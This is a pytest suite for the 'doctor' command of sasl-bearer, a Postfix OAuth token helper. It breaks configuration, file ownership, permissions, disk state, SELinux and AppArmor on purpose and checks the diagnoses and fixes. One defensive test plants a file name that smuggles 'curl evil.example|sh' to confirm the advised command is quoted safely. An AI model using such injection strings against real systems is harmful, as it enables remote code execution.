# SPDX-FileCopyrightText: the sasl-bearer authors
# SPDX-License-Identifier: BSD-2-Clause
"""What goes wrong with the configuration and the state, produced on purpose;
what the examination says of it; and that its next step heals it."""

import grp
import json
import os
import pwd
import re
import shutil
from pathlib import Path

import pytest

from lab.keys import make_certificate, make_key
from lab.process import run
from lab.smalldisk import SmallDisk

pytestmark = pytest.mark.toolonly

CONFIG, DENIED, NOACCESS = 78, 77, 73
POSTFIX = "postfix"
PERSON = 12345
README_ID = "11111111-2222-3333-4444-555555555555"


def examined(site, *arguments, env=None, wrap=(), **more):
    """All that the examination finds, as a list."""
    done = run([*wrap, site.objects.tool, "doctor", "--json", *arguments],
               env={**site.env, **(env or {})}, **{**site.identity, **more})
    site.keep("doctor", done.stdout + done.stderr)
    assert done.stdout, done.stderr
    return json.loads(done.stdout)["findings"]


def of(findings, area, *grades):
    """Those of an area, of these grades."""
    return [one for one in findings
            if one["area"] == area and (not grades or one["grade"] in grades)]


def the_wrong(findings, area):
    """The one thing that is wrong there."""
    found = of(findings, area, "wrong")
    assert len(found) == 1, findings
    return found[0]


def texts(findings):
    """What is said, in one piece."""
    return "\n".join(one["text"] for one in findings)


def heal(finding):
    """Does what the finding says is to be done, as root at a shell."""
    lines = finding["lines"]
    if not lines:
        found = re.fullmatch(r"run(?:, as root)?: (.*)", finding["next"])
        assert found, finding
        lines = [found[1]]
    run(["sh", "-e", "-c", "\n".join(lines)], check=True)


def assert_healthy(site, *arguments, **more):
    """Nothing about configuration and state is wrong, or a warning."""
    findings = examined(site, *arguments, **more)
    for area in ("configuration", "state"):
        assert not of(findings, area, "wrong", "warning"), findings
        assert of(findings, area, "ok"), findings
    return findings


def as_postfix(site, saslhost, account):
    """A login of a program that is Postfix's user from its start."""
    user = pwd.getpwnam(POSTFIX)
    done = run([saslhost, "XOAUTH2", "smtp", "mail.contoso.com", account],
               env=site.env, user=user.pw_uid, group=user.pw_gid,
               extra_groups=[])
    site.keep("saslhost", done.stderr)
    return done


def test_a_site_in_order_is_found_so(logged_in, account):
    said = texts(assert_healthy(logged_in, account))
    assert "postfix can read the token" in said
    assert "postfix can renew" in said
    assert "renewer postfix (line " in said


# 1: a slip in the configuration

@pytest.mark.parametrize("line,sentence", [
    ('services = "smtp",', "line {}: "),
    ("services = smtp, imap", "line {}: "),
    ('client_ids = "x"', "line {}: there is no option client_ids; is "
                         "client_id meant?"),
    ('renew_before = "soon"', "line {}: renew_before is "),
])
def test_pain_01_a_slip_is_named_by_file_and_line(
        logged_in, account, saslhost, line, sentence):
    text = logged_in.conf.read_text()
    number = text.count("\n") + 1
    logged_in.conf.write_text(f"{text}{line}\n")
    finding = the_wrong(examined(logged_in, account), "configuration")
    place = f"{logged_in.conf}, {sentence.format(number)}"
    assert finding["text"].startswith(place), finding
    assert finding["status"] == "config"
    assert f"mend that line of {logged_in.conf}" in finding["next"]
    logged_in.tool("doctor", account, code=CONFIG)
    # The same in the log of the program, when a token must be renewed.
    logged_in.expire_here(account)
    done = as_postfix(logged_in, saslhost, account)
    assert done.returncode and place in done.stderr, done.stderr
    logged_in.conf.write_text(text)
    assert_healthy(logged_in, account)


def test_pain_01_a_placeholder_of_the_manual_is_no_id(site):
    site.conf.write_text(
        f'default_provider = "office365"\ntenant = "contoso.com"\n'
        f'client_id = "{README_ID}"\nrenewer = "postfix"\n')
    findings = examined(site, "me@contoso.com")
    finding = the_wrong(findings, "configuration")
    assert f'{site.conf}, line 3: client_id is "{README_ID}"' \
        in finding["text"]
    assert "id of your application at Microsoft 365" in finding["next"]
    warned = texts(of(findings, "configuration", "warning"))
    assert f'{site.conf}, line 2: tenant is "contoso.com"' in warned


def test_pain_01_what_explains_is_no_next_step(site, account):
    """A sentence's part behind a semicolon may be no order."""
    site.conf.write_text(f'renewer = "{POSTFIX}"\naccount "{account}" {{\n'
                         '  provider = "no-such-provider"\n}\n')
    finding = the_wrong(examined(site, account), "configuration")
    assert "; it is neither a preset" in finding["text"]
    assert finding["next"] == f"correct {site.conf}, line 3, and run this again"


def test_pain_01_what_counts_is_shown_with_its_line(site, account):
    site.conf.write_text(
        f'renewer = "{POSTFIX}"\naccount "{account}" {{\n'
        '  provider = "google"\n  client_id = "1.apps.googleusercontent.com"\n'
        '  services = "imap"\n}\n')
    said = texts(of(examined(site, account), "configuration", "ok"))
    for part in ("provider google (line 3)", "services imap (line 5)",
                 "client_id 1.apps.googleusercontent.com (line 4)",
                 "renewer postfix (line 1)"):
        assert part in said


# 9, 13: names, and what is typed

def test_pain_13_a_slip_in_the_name_is_noticed(logged_in, account):
    for typed in (account.upper(), account.replace("user", "usr"),
                  account.split("@")[0]):
        finding = the_wrong(examined(logged_in, typed), "configuration")
        assert f"is {account} meant?" in finding["text"]
        assert account in finding["next"]
    said = texts(examined(logged_in, "somebody@example.org"))
    assert "meant?" not in said
    assert "no provider is configured for it" in said


def test_pain_13_options_stand_anywhere(logged_in, account):
    said = [json.loads(logged_in.tool("doctor", *words, code=None).stdout)
            for words in (["--json", account], [account, "--json"])]
    first, second = (of(one["findings"], "state") for one in said)
    assert first and first == second


def test_pain_13_logging_in_again_keeps_what_is_there(logged_in, account):
    path = logged_in.grant_path(account)
    path.write_text(json.dumps({**logged_in.grant(account), "mine": "kept"}))
    logged_in.login(account)
    assert logged_in.grant(account)["mine"] == "kept"
    assert_healthy(logged_in, account)


def test_pain_13_nothing_is_replaced_before_success(logged_in, account,
                                                    provider):
    paths = logged_in.record_path(account), logged_in.grant_path(account)
    before = [path.read_bytes() for path in paths]
    logged_in.login(account, answer=provider.deny, code=DENIED)
    assert [path.read_bytes() for path in paths] == before
    assert_healthy(logged_in, account)


# 17: paths, owners, modes

def _root_only(path):
    os.chown(path, 0, 0)
    path.chmod(0o600)


_SPOILT = {
    "a record of root": (
        lambda site, name: _root_only(site.record_path(name)),
        "cannot read the token", "chown -h postfix:postfix {record} && "
                                 "chmod 0640 {record}"),
    "a grant of root": (
        lambda site, name: _root_only(site.grant_path(name)),
        "cannot renew the token", "chown -h postfix:postfix {grant}"),
    "grants of root": (
        lambda site, name: os.chown(site.state / "grants", 0, 0),
        "cannot renew the token", "chown -h postfix:postfix {state}/grants"),
    "tokens of root": (
        lambda site, name: os.chown(site.state / "tokens", 0, 0),
        "cannot renew the token", "chown -h postfix:postfix {state}/tokens"),
    "a shut directory of tokens": (
        lambda site, name: _root_only(site.state / "tokens"),
        "cannot read the token", "chown -h postfix:postfix {state}/tokens && "
                                 "chmod 0711 {state}/tokens"),
    "a shut state": (
        lambda site, name: site.state.chmod(0o700),
        "cannot read the token", "chmod 0755 {state}"),
    "a lock of root": (
        lambda site, name: (Path(f"{site.grant_path(name)}.lock")
                            .write_text("x"),
                            _root_only(Path(f"{site.grant_path(name)}.lock"))),
        "cannot renew the token", "chown -h postfix:postfix {grant}.lock"),
    "a record that others may write": (
        lambda site, name: site.record_path(name).chmod(0o660),
        "cannot read the token", "chmod 0640 {record}"),
}


@pytest.mark.parametrize("how", _SPOILT)
def test_pain_17_owners_and_modes(how, logged_in, account):
    spoil, what, command = _SPOILT[how]
    spoil(logged_in, account)
    findings = examined(logged_in, account)
    finding = the_wrong(findings, "state")
    assert f"postfix {what}: " in finding["text"], finding
    wanted = command.format(
        record=logged_in.record_path(account), state=logged_in.state,
        grant=logged_in.grant_path(account))
    assert [one.rstrip("/") for one in finding["lines"]] == [wanted], finding
    assert wanted in finding["next"]
    heal(finding)
    assert_healthy(logged_in, account)


@pytest.fixture
def jailed(logged_in, account, dovecot, make_postfix):
    """Examines for a Postfix whose smtp(8) enters a chroot."""
    postfix = make_postfix(logged_in, dovecot, account)
    env = {"MAIL_CONFIG": str(postfix.directory)}

    def look(**more):
        findings = examined(logged_in, "--postfix", account, env=env, **more)
        assert of(findings, "client"), findings
        return findings
    look.jail = postfix.directory / "queue"
    return look


def test_pain_17_postfix_in_its_chroot(jailed, logged_in, account):
    assert f"Postfix (as postfix, in {jailed.jail}) can read the token" \
        in texts(of(jailed(), "state", "ok"))
    _root_only(logged_in.record_path(account))
    finding = the_wrong(jailed(), "state")
    assert "postfix cannot read the token" in finding["text"]
    heal(finding)
    assert not of(jailed(), "state", "wrong", "warning")


def test_pain_17_the_renewer_is_not_postfix(jailed, logged_in, account):
    text = logged_in.conf.read_text()
    logged_in.conf.write_text(text.replace('"postfix"', '"mail"'))
    for path in logged_in.state.rglob("*"):
        shutil.chown(path, "mail", "mail")
    finding = the_wrong(jailed(), "state")
    assert "postfix cannot read the token" in finding["text"]
    assert finding["next"].startswith(
        f'write renewer = "postfix" into {logged_in.conf} in place of "mail"')
    logged_in.conf.write_text(text)
    heal(the_wrong(jailed(), "state"))
    assert not of(jailed(), "state", "wrong", "warning")


def test_pain_17_no_renewer_for_postfix(jailed, logged_in):
    text = logged_in.conf.read_text()
    logged_in.conf.write_text("".join(
        line for line in text.splitlines(True)
        if not line.startswith(("renewer", "reader"))))
    finding = the_wrong(jailed(), "configuration")
    assert "no renewer is configured" in finding["text"]
    assert 'write renewer = "postfix"' in finding["next"]


def test_pain_17_a_person_who_asks_about_postfix(jailed, logged_in, account):
    logged_in.conf.chmod(0o644)
    findings = jailed(user=PERSON, group=PERSON, extra_groups=[])
    assert not of(findings, "state", "wrong")
    assert f"sudo sasl-bearer doctor {account}" in texts(
        of(findings, "state", "unsure"))


@pytest.mark.parametrize("name", [".", "tokens", "grants"])
def test_pain_17_a_directory_that_others_may_write_to(
        name, logged_in, account):
    path = logged_in.state / name
    path.chmod(0o777)
    finding = the_wrong(examined(logged_in), "state")
    assert "others may write to the directory" in finding["text"]
    assert finding["next"].startswith("run: chmod go-w ")
    heal(finding)
    # What others could write, the login's own modes are better than.
    for one in of(examined(logged_in), "state", "warning"):
        heal(one)
    assert_healthy(logged_in, account)


def test_pain_17_the_renewer_is_another_user_than_the_program(
        logged_in, account):
    """Files that root has for itself, and then a renewer is configured."""
    for path in logged_in.state.rglob("*"):
        shutil.chown(path, "mail", "mail")
    finding = the_wrong(examined(logged_in, account), "state")
    assert "postfix cannot read the token" in finding["text"]
    assert len(finding["lines"]) == 4 + (
        Path(f"{logged_in.grant_path(account)}.lock").exists())
    assert f'run, as root, the {len(finding["lines"])} commands above' \
        in finding["next"]
    heal(finding)
    assert_healthy(logged_in, account)


def test_pain_17_a_renewer_who_does_not_exist(site, account):
    site.renewer = "nobody-of-that-name"
    site.configure()
    finding = the_wrong(examined(site, account), "configuration")
    assert f"{site.conf}, line " in finding["text"]
    assert "there is no such user" in finding["text"]


def test_pain_17_a_reader_whom_the_renewer_is_not_in(site, account):
    group = next(one.gr_name for one in grp.getgrall()
                 if POSTFIX not in one.gr_mem
                 and one.gr_gid != pwd.getpwnam(POSTFIX).pw_gid)
    text = site.conf.read_text()
    site.conf.write_text(text.replace(f'reader = "{POSTFIX}"',
                                      f'reader = "{group}"'))
    found = of(examined(site, account), "configuration", "warning")
    assert [one["next"] for one in found] \
        == [f"run: usermod -aG {group} {POSTFIX}"]


def test_pain_17_a_way_that_is_shut(make_site, account):
    """Not for Postfix, which opens it as root."""
    site = make_site(renewer="mail")
    site.login(account)
    site.directory.chmod(0o700)
    findings = examined(site, account)
    finding = the_wrong(findings, "state")
    assert finding["text"] == f"mail may not enter {site.directory}, so it " \
        "does not come to its tokens"
    heal(finding)
    # That file lies there, too, and is no secret.
    assert_healthy(site, account)


def test_pain_17_postfix_needs_no_open_way(logged_in, account):
    logged_in.directory.chmod(0o700)
    said = texts(assert_healthy(logged_in, account))
    assert f"postfix may not enter {logged_in.directory}, but Postfix opens " \
        "the directory before, as root" in said


def test_pain_17_after_sudo_the_files_are_roots(make_site, account):
    site = make_site(person=True)
    site.login(account)
    assert_healthy(site, account)
    for path in (site.record_path(account), site.grant_path(account)):
        _root_only(path)
    finding = the_wrong(examined(site, account), "state")
    assert "cannot read the token" in finding["text"]
    assert len(finding["lines"]) == 2
    heal(finding)
    assert_healthy(site, account)


def test_pain_17_whoever_is_not_root_is_told_what_was_not_tried(
        logged_in, account):
    logged_in.conf.chmod(0o644)
    findings = examined(logged_in, account, user=PERSON, group=PERSON,
                        extra_groups=[])
    finding = the_wrong(findings, "state")
    assert f"user id {PERSON} cannot read the token" in finding["text"]
    assert finding["next"] == f"run this as root: sudo sasl-bearer doctor " \
        f"{account}"


def _as_sudoer(fresh, home):
    """A command line before the examination's, and its environment."""
    users = fresh("etc") / "passwd"
    users.write_text(Path("/etc/passwd").read_text() +
                     f"sudoer:x:{PERSON}:{PERSON}::{home}:/bin/sh\n")
    return {"env": {"SUDO_USER": "sudoer"}, "wrap": [
        "unshare", "--mount", "--propagation", "private", "sh", "-c",
        'mount --bind "$1" /etc/passwd && shift && exec "$@"', "sh", users]}


def test_pain_17_a_login_as_oneself_is_not_the_systems(
        site, account, fresh):
    """`sudo doctor` after a login without sudo."""
    home = fresh("home")
    own = home / ".local" / "state" / "sasl-bearer" / "tokens"
    own.mkdir(parents=True)
    (own / account).write_text("")
    site.accounts.append(account)
    site.configure()
    findings = examined(site, account, **_as_sudoer(fresh, home))
    finding = the_wrong(findings, "state")
    assert f"its token is {own}/{account}" in finding["text"]
    assert finding["next"] == f"run, as root: sasl-bearer login {account}"


def test_pain_17_a_persons_configuration_becomes_roots(
        logged_in, account, fresh):
    """What is advised leaves nobody but root the right to write there."""
    home = fresh("a person's home")
    own = home / ".config" / "sasl-bearer.conf"
    own.parent.mkdir(parents=True)
    logged_in.conf.rename(own)
    os.chown(own, PERSON, PERSON)
    findings = examined(logged_in, **_as_sudoer(fresh, home))
    finding, = [one for one in of(findings, "configuration", "warning")
                if str(own) in one["text"]]
    command = re.fullmatch(r"for a program of the system move it: (.*); for "
                           r"one of sudoer run this as that user",
                           finding["next"])
    assert command, finding
    run(["sh", "-e", "-c", command[1]], check=True)
    facts = os.stat(logged_in.conf)
    assert (facts.st_uid, facts.st_gid, facts.st_mode & 0o7777) \
        == (0, 0, 0o644)
    assert not own.exists()
    assert_healthy(logged_in, account)


def test_pain_17_a_configuration_of_somebody_else_is_not_for_root(
        logged_in, account):
    os.chown(logged_in.conf, PERSON, PERSON)
    finding = the_wrong(examined(logged_in, account), "configuration")
    assert f"{logged_in.conf} belongs to user id {PERSON}" in finding["text"]
    assert finding["next"] == f"run: chown root:root {logged_in.conf}"
    for verb in ("status", "token", "refresh", "config", "login"):
        said = logged_in.tool(verb, account, code=NOACCESS).stderr
        assert finding["text"] in said
    heal(finding)
    assert_healthy(logged_in, account)


def test_pain_17_a_full_disk(logged_in, account, fresh):
    disk = SmallDisk(fresh("disk"))
    disk.start()
    try:
        disk.take(logged_in.state)
        env = {"SASL_BEARER_STATE": str(disk.state)}
        assert not of(examined(logged_in, account, env=env), "state", "wrong")
        disk.fill()
        finding = the_wrong(examined(logged_in, account, env=env), "state")
        assert "is full, so nothing can be renewed" in finding["text"]
        assert finding["next"].startswith("free some space there; df ")
        disk.free()
        assert not of(examined(logged_in, account, env=env), "state", "wrong")
    finally:
        disk.stop()


def test_pain_17_a_read_only_disk(logged_in, account):
    findings = examined(logged_in, account, wrap=[
        "unshare", "--mount", "--propagation", "private", "sh", "-c",
        'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" && shift && '
        'exec "$@"', "sh", logged_in.state])
    finding = the_wrong(findings, "state")
    assert "mounted read-only" in finding["text"]


def test_pain_17_a_trial_leaves_nothing_and_changes_nothing(
        logged_in, account):
    """Not even what a renewal that was killed has left behind."""
    grant = logged_in.grant_path(account)
    left = grant.with_name(f".{grant.name}.tmp")
    text = json.loads(grant.read_text())
    left.write_text(json.dumps({**text, "serial": text["serial"] + 1}) + "\n")
    shutil.chown(left, POSTFIX, POSTFIX)
    left.chmod(0o600)

    def look():
        return {path: (path.stat(follow_symlinks=False).st_ctime_ns,
                       path.is_file() and path.read_bytes())
                for path in logged_in.state.rglob("*") if path.is_file()}
    before = look()
    said = texts(assert_healthy(logged_in, account))
    assert "takes over what it has written" in said
    assert look() == before


@pytest.mark.parametrize("what", ["record", "grant"])
def test_pain_17_a_damaged_file(what, logged_in, account):
    path = getattr(logged_in, f"{what}_path")(account)
    text = path.read_text()
    path.write_text(text[:len(text) // 2].replace("1\n", "x\n", 1))
    finding = the_wrong(examined(logged_in, account), "state")
    assert str(path) in finding["text"]
    assert finding["next"] == f"run: sasl-bearer login {account}"
    logged_in.login(account)
    assert_healthy(logged_in, account)


# Files that the configuration names.

def test_pain_17_a_secret_that_others_may_read(make_site, account):
    site = make_site(client="lab-body")
    site.login(account)
    path = site.directory / "client_secret"
    assert_healthy(site, account)
    path.chmod(0o644)
    finding = the_wrong(examined(site, account), "configuration")
    assert f"others may read {path}" in finding["text"]
    heal(finding)
    assert_healthy(site, account)
    path.unlink()
    finding = the_wrong(examined(site, account), "configuration")
    assert f"there is no file {path}" in finding["text"]


def test_pain_17_a_secret_that_the_renewer_may_not_read(make_site, account):
    site = make_site(client="lab-body", renewer="mail")
    site.login(account)
    assert_healthy(site, account)
    shutil.chown(site.directory / "client_secret", "root")
    found = of(examined(site, account), "configuration", "warning")
    assert len(found) == 1 and found[0]["text"].startswith(
        "as mail, which renews tokens: cannot open "), found
    # Postfix loads it before, as root.
    site.conf.write_text(site.conf.read_text().replace('"mail"',
                                                       f'"{POSTFIX}"'))
    assert "Postfix reads as root" in texts(
        of(examined(site, account), "configuration", "ok"))


def test_pain_17_a_secret_is_not_for_whoever_asks(make_site, account):
    """Who does not renew is not told that something is wrong with it."""
    site = make_site(client="lab-body")
    site.login(account)
    site.conf.chmod(0o644)
    findings = examined(site, account, user=PERSON, group=PERSON,
                        extra_groups=[])
    assert not of(findings, "configuration", "wrong")
    said = texts(of(findings, "configuration", "unsure"))
    assert f"root can look at it: sudo sasl-bearer doctor {account}" in said


def test_pain_17_a_credential_is_the_units(logged_in, account):
    text = logged_in.conf.read_text()
    logged_in.conf.write_text(
        'client_secret_file = "credential:secret"\n' + text)
    findings = examined(logged_in, account)
    assert not of(findings, "configuration", "wrong")
    assert "client_secret_file is credential:secret, which systemd gives" \
        in texts(of(findings, "configuration", "unsure"))


def test_pain_17_no_command_is_made_up(logged_in, account):
    """Owners are right, and it cannot be written all the same."""
    grants = logged_in.state / "grants"
    if not shutil.which("chattr") or \
            run(["chattr", "+i", grants]).returncode:
        pytest.skip("this file system knows no immutable directory")
    try:
        finding = the_wrong(examined(logged_in, account), "state")
    finally:
        run(["chattr", "-i", grants], check=True)
    assert "Operation not permitted" in finding["text"]
    assert not finding["lines"]
    assert "lsattr" in finding["next"]


def test_no_name_of_a_file_becomes_a_command(logged_in):
    """The renewer may write there, and root copies what is advised."""
    name = "me@contoso.com;curl evil.example|sh"
    path = logged_in.state / "tokens" / \
        "me@contoso.com%3Bcurl%20evil.example%7Csh"
    path.write_text("no token")
    shutil.chown(path, POSTFIX, POSTFIX)
    path.chmod(0o640)
    finding = the_wrong(examined(logged_in), "state")
    assert finding["account"] == name
    assert finding["next"] == f"run: sasl-bearer login '{name}'"


def test_a_report_hides_whose_a_file_is(logged_in, fresh):
    """Of a person whom this host knows, for as long as the tool runs."""
    people = fresh("people") / "passwd"
    people.write_text(Path("/etc/passwd").read_text()
                      + f"marianne:x:{PERSON}:{PERSON}::/:/bin/sh\n")
    os.chown(logged_in.state, PERSON, PERSON)

    def doctor(*more):
        return run(["unshare", "--mount", "sh", "-euc",
                    'mount --bind "$1" /etc/passwd; shift; exec "$@"', "sh",
                    people, logged_in.objects.tool, "doctor", *more],
                   env=logged_in.env).stdout
    assert "belongs to marianne:" in doctor()
    assert "marianne" not in doctor("--report")


def test_a_report_hides_a_name_in_a_command(site):
    """An apostrophe takes it apart there."""
    site.accounts.append("mary'ann@contoso.com")
    site.configure()
    done = site.tool("doctor", "--report", "mary'ann@contoso.com", code=None)
    assert "sasl-bearer login " in done.stdout
    assert "mary" not in done.stdout.lower()


@pytest.mark.parametrize("days,grade,part", [
    (90, "ok", "certificate is good until"),
    (5, "warning", "certificate ends on"),
])
def test_the_end_of_a_certificate_is_told(site, account, days, grade, part):
    site.accounts.append(account)
    site.configure()
    key, _ = make_key(site.directory, "rsa")
    certificate = make_certificate(site.directory, key, days=days)
    for path in (key, certificate):
        shutil.chown(path, POSTFIX)
    site.conf.write_text(
        f'grant = "client_credentials"\nclient_key = "{key}"\n'
        f'client_certificate = "{certificate}"\n' +
        site.conf.read_text().replace('client_auth = "none"', ""))
    findings = examined(site, account)
    assert part in texts(of(findings, "configuration", grade)), findings


# 22: somebody else's file

def test_pain_22_a_token_of_somebody_else(logged_in, account, saslhost):
    path = logged_in.record_path(account)
    os.chown(path, PERSON, pwd.getpwnam(POSTFIX).pw_gid)
    finding = the_wrong(examined(logged_in, account), "state")
    assert f"{path} belongs to user id {PERSON}" in finding["text"]
    said = as_postfix(logged_in, saslhost, account)
    assert said.returncode and f"belongs to user id {PERSON}" in said.stderr
    heal(finding)
    assert_healthy(logged_in, account)
    assert as_postfix(logged_in, saslhost, account).returncode == 0


# 25: SELinux and AppArmor, on a system that looks as if they were on

_SELINUX = """
set -e
mount -t tmpfs lab /sys/fs
mkdir /sys/fs/selinux
echo "$1" >/sys/fs/selinux/enforce
shift
exec "$@"
"""

_APPARMOR = """
set -e
mount -t tmpfs lab /sys/module
mkdir -p /sys/module/apparmor/parameters
echo Y >/sys/module/apparmor/parameters/enabled
mount -t tmpfs lab /sys/kernel/security
mkdir /sys/kernel/security/apparmor
echo "$1" >/sys/kernel/security/apparmor/profiles
shift
exec "$@"
"""


def _in(script, word):
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c",
            script, "sh", word]


def _label(site, label):
    for path in (site.state, *site.state.rglob("*")):
        os.setxattr(path, "security.selinux", label.encode() + b"\0")


def test_pain_25_a_state_that_selinux_does_not_know(logged_in, account):
    _label(logged_in, "system_u:object_r:var_lib_t:s0")
    for enforce, word in (("1", "enforcing"), ("0", "permissive")):
        found = of(examined(logged_in, account, wrap=_in(_SELINUX, enforce)),
                   "state", "warning")
        assert len(found) == 1
        assert f"SELinux is {word}" in found[0]["text"]
        assert "postfix_smtp_t" in found[0]["text"]
        assert f"{logged_in.state} has the label system_u:object_r:var_lib_t" \
            in found[0]["text"]
        assert f"restorecon -R -v {logged_in.state}" in found[0]["lines"]
        assert found[0]["lines"][-2] == "semanage fcontext -a -t " \
            f"sasl_bearer_var_lib_t '{logged_in.state}(/.*)?'"
    _label(logged_in, "system_u:object_r:sasl_bearer_var_lib_t:s0")
    said = texts(of(examined(logged_in, account, wrap=_in(_SELINUX, "1")),
                    "state", "ok"))
    assert "SELinux: " in said and "sasl_bearer_var_lib_t" in said


_PERMISSIONS = ("getattr search open read write add_name remove_name create "
                "rename unlink lock setattr append").split()


def _policy(fresh, denied):
    """A directory like /sys/fs/selinux, of a policy that allows all else. What
    is written there is the question; the answer stands behind it, where the
    kernel would put it."""
    tree = fresh("selinux")
    allowed = 0
    for name, index in (("dir", 7), ("file", 6)):
        perms = tree / "class" / name / "perms"
        perms.mkdir(parents=True)
        (perms.parent / "index").write_text(f"{index}")
        for number, word in enumerate(_PERMISSIONS, 1):
            (perms / word).write_text(f"{number}")
            if word not in denied:
                allowed |= 1 << (number - 1)
    (tree / "enforce").write_text("1")
    (tree / "access").write_text(
        " " * 150 + f"{allowed:x} ffffffff 0 ffffffff 1 0")
    return tree


_BOUND = """
set -e
mount -t tmpfs lab /sys/fs
mkdir /sys/fs/selinux
mount --bind "$1" /sys/fs/selinux
shift
exec "$@"
"""


def test_pain_25_a_policy_that_denies(logged_in, account, fresh):
    _label(logged_in, "system_u:object_r:var_lib_t:s0")
    findings = examined(logged_in, account, wrap=_in(
        _BOUND, _policy(fresh, ["write", "add_name"])))
    finding = the_wrong(findings, "state")
    assert finding["text"] == \
        f"SELinux: {logged_in.state} is labelled var_lib_t, where smtp(8), " \
        "which runs as postfix_smtp_t, may not write add_name (dir)"
    assert finding["status"] == "access"
    assert finding["lines"][-1] == f"restorecon -R -v {logged_in.state}"
    findings = examined(logged_in, account,
                        wrap=_in(_BOUND, _policy(fresh, ["lock"])))
    assert "may not lock (file)" in the_wrong(findings, "state")["text"]
    said = texts(assert_healthy(logged_in, account,
                                wrap=_in(_BOUND, _policy(fresh, []))))
    assert f"SELinux lets smtp(8), postfix_smtp_t, use {logged_in.state}" \
        in said


def test_pain_25_a_profile_of_apparmor(logged_in, account):
    profile = "/usr/lib/postfix/sbin/smtp"
    found = of(examined(logged_in, account, wrap=_in(
        _APPARMOR, f"/usr/bin/man (enforce)\n{profile} (enforce)")),
        "state", "warning")
    assert len(found) == 1
    assert f"by the profile {profile}" in found[0]["text"]
    assert f"{logged_in.state}/{{tokens,grants}}/** rwk," in found[0]["lines"]
    assert found[0]["lines"][-1] == \
        "apparmor_parser -r /etc/apparmor.d/usr.lib.postfix.sbin.smtp"
    for other in (f"{profile} (complain)", "/usr/bin/man (enforce)"):
        assert not of(examined(logged_in, account,
                               wrap=_in(_APPARMOR, other)),
                      "state", "warning")
